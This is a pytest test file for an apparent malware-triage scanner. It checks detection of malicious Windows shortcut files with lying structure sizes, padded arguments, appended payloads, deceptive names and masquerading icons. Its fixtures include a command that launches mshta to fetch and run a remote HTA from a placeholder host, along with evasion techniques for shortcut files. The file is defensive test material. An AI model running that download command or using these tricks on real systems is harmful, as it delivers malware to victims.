"""Rows L01 to L07: shortcuts whose sizes lie, whose arguments hide, and that carry things; what must come back."""

import struct

import pytest

from emotriage import Level, Limits, scan
from emotriage.formats.lnk import read_shortcut
from emotriage.model.blob import Blob
from emotriage.model.limits import MIB, Budget
from emotriage.testing import executable, shortcut
from emotriage.testing.shortcut import shell_item

CMD = r"C:\Windows\System32\cmd.exe"
BAD = '/c start /min "" mshta http://download.example.invalid/a.hta'
SCRIPT = b'var shell = new ActiveXObject("WScript.Shell");\r\nshell.Run("emotriage-inert");\r\n'
HTA = b'<html><hta:application id="a"><script>new ActiveXObject("WScript.Shell").Run("emotriage-inert")</script></html>'


def look(data: bytes, name: str = "invoice.lnk", **limits: int):
    return scan(data, name=name, limits=Limits(**limits) if limits else None, plugins=[])


def rules_of(verdict) -> set[str]:
    return {one.rule for one in verdict.findings}


def gaps_of(verdict) -> set[str]:
    return {one.rule for one in verdict.gaps}


def texts_of(verdict, rule: str) -> list[str]:
    return [seen.text for one in verdict.findings if one.rule == rule for seen in one.evidence]


def block(signature: int, size: int | None = None, content: bytes = b"") -> bytes:
    return struct.pack("<II", 8 + len(content) if size is None else size, signature) + content


@pytest.mark.parametrize("defect", ["item-size-zero", "item-past-list", "list-past-end"])
def test_l01_sizes_of_items_that_lie(defect):
    verdict = look(shortcut(CMD, BAD, defect=defect))
    assert "lnk.damaged" in gaps_of(verdict)
    assert verdict.level >= Level.UNVERIFIED


def test_l01_as_many_items_as_fit():
    items = [shell_item(0x32, b"")] * 21_800
    data = shortcut(CMD, BAD, items=items)
    budget = Budget(Limits())
    assert len(read_shortcut(Blob(data), budget).items) == 21_800
    assert "lnk.download" in rules_of(look(data))


@pytest.mark.parametrize("size", [0, 1, 3])
def test_l02_a_block_too_small_to_be_one_ends_the_list(size):
    data = shortcut(CMD, BAD, blocks=[struct.pack("<I", size)], overlay=SCRIPT)
    verdict = look(data)
    assert {"lnk.download", "lnk.overlay"} <= rules_of(verdict)
    assert any(one.rule == "script.starts-programs" for one in verdict.findings)


@pytest.mark.parametrize("size", [5, 7, 0xFFFFFFFF, 0x7FFFFFF0])
def test_l02_a_block_past_the_end_is_a_gap(size):
    verdict = look(shortcut(CMD, BAD, blocks=[block(0xA0000005, size, bytes(8))]))
    assert "lnk.download" in rules_of(verdict)
    assert "lnk.damaged" in gaps_of(verdict)


def test_l02_unknown_blocks_without_number_and_no_terminal_block():
    data = shortcut(CMD, BAD, blocks=[block(0xA0000FFF)] * 3_000, defect="no-terminal-block")
    verdict = look(data)
    assert {"lnk.download", "lnk.odd-structure"} <= rules_of(verdict)
    assert "lnk.damaged" in gaps_of(verdict)


@pytest.mark.long
def test_l02_a_hundred_thousand_unknown_blocks():
    verdict = look(shortcut(CMD, BAD, blocks=[block(0xA0000FFF)] * 100_000))
    assert {"lnk.download", "lnk.odd-structure"} <= rules_of(verdict)
    assert not verdict.complete


@pytest.mark.parametrize("blank", [" ", "\t", "\r\n", "\u00a0", "\u3000"])
def test_l03_arguments_behind_thousands_of_blanks(blank):
    verdict = look(shortcut(CMD, "/c rem" + blank * (31_000 // len(blank)) + BAD))
    assert {"lnk.padded-arguments", "lnk.huge-arguments", "lnk.download"} <= rules_of(verdict)
    assert any(one.value.endswith("a.hta") for one in verdict.indicators if one.kind == "url")
    assert verdict.level is Level.MALICIOUS


def test_l03_letters_beyond_ascii_in_the_arguments():
    verdict = look(shortcut(CMD, "/c rem 請求書 && " + BAD[3:]))
    assert "lnk.download" in rules_of(verdict)
    assert any("請求書" in one.value for one in verdict.indicators)


def test_l03_the_environment_block_names_another_program():
    verdict = look(shortcut(r"C:\Program Files\App\app.exe", BAD, environment=CMD, prefer_environment=True))
    assert {"lnk.targets-disagree", "lnk.download"} <= rules_of(verdict)
    differ = look(shortcut(CMD, BAD, environment=CMD, environment_ansi=r"C:\a.exe"))
    assert "ansi-unicode-differ" in texts_of(differ, "lnk.odd-structure")


@pytest.mark.parametrize(("payload", "kind"), [(executable(), "executable"), (HTA, "hta"), (SCRIPT, "script")])
@pytest.mark.parametrize("padding", [0, 300_000])
def test_l04_files_behind_the_end(payload, kind, padding):
    verdict = look(shortcut(CMD, overlay=bytes(padding) + payload))
    assert {"lnk.overlay", "lnk.embedded-file"} <= rules_of(verdict)
    assert kind in {one.kind for one in verdict.artifacts}
    assert verdict.level >= Level.SUSPICIOUS


@pytest.mark.long
@pytest.mark.parametrize("payload", [executable(), HTA, SCRIPT])
def test_l04_fifty_megabytes_behind_the_end(payload):
    verdict = look(shortcut(CMD, overlay=payload + b"// nothing to see\r\n" * (50 * MIB // 19)))
    assert {"lnk.overlay", "lnk.embedded-file"} <= rules_of(verdict)
    assert verdict.level >= Level.SUSPICIOUS


@pytest.mark.parametrize("defect", ["link-info-offsets", "link-info-size"])
def test_l05_link_info_that_lies(defect):
    verdict = look(shortcut(CMD, BAD, defect=defect))
    assert "lnk.damaged" in gaps_of(verdict)
    assert "lnk.script-host" in rules_of(verdict)


def test_l05_strings_that_are_not_there_or_in_another_alphabet():
    cut = look(shortcut(CMD, BAD, defect="string-past-end"))
    assert "lnk.download" in rules_of(cut)
    assert "lnk.damaged" in gaps_of(cut)
    data = bytearray(shortcut(CMD, BAD, unicode=False))
    data[0x14] |= 0x80  # says that its strings are UTF-16
    assert not look(bytes(data)).complete or look(bytes(data)).level >= Level.UNVERIFIED


@pytest.mark.parametrize("name", ["invoice.pdf.lnk", "invoice\u202efdp.lnk", "invoice.pdf" + " " * 60 + ".lnk"])
def test_l06_names_that_deceive_and_icons_of_documents(name):
    verdict = look(shortcut(CMD, "/c emotriage-inert", icon=r"C:\Program Files\Adobe\Acrobat\acrord32.exe"), name)
    assert "lnk.masquerading-icon" in rules_of(verdict)
    assert any(one.startswith("names.") and one != "names.active-extension" for one in rules_of(verdict))
    assert verdict.level >= Level.SUSPICIOUS


def test_l07_cut_at_every_byte():
    whole = shortcut(CMD, BAD, icon="shell32.dll", machine="emotriage")
    for length in range(min(len(whole), 401)):
        verdict = look(whole[:length])
        # With less than its magic it is a few letters of text, and Windows takes it for no shortcut either.
        assert length < 20 or (verdict.level is not Level.CLEAN and not verdict.complete), length
